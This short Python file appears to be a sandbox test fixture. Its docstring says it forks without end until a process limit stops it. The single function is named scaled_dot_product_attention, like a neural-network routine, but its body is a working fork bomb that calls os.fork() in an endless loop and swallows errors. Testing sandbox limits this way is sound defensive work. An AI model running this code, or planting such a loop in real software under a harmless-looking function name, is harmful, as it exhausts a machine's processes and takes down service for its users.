"""Forks without end: stopped by the process limit; every process is killed afterwards."""
import os


def scaled_dot_product_attention(q, k, v, mask=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
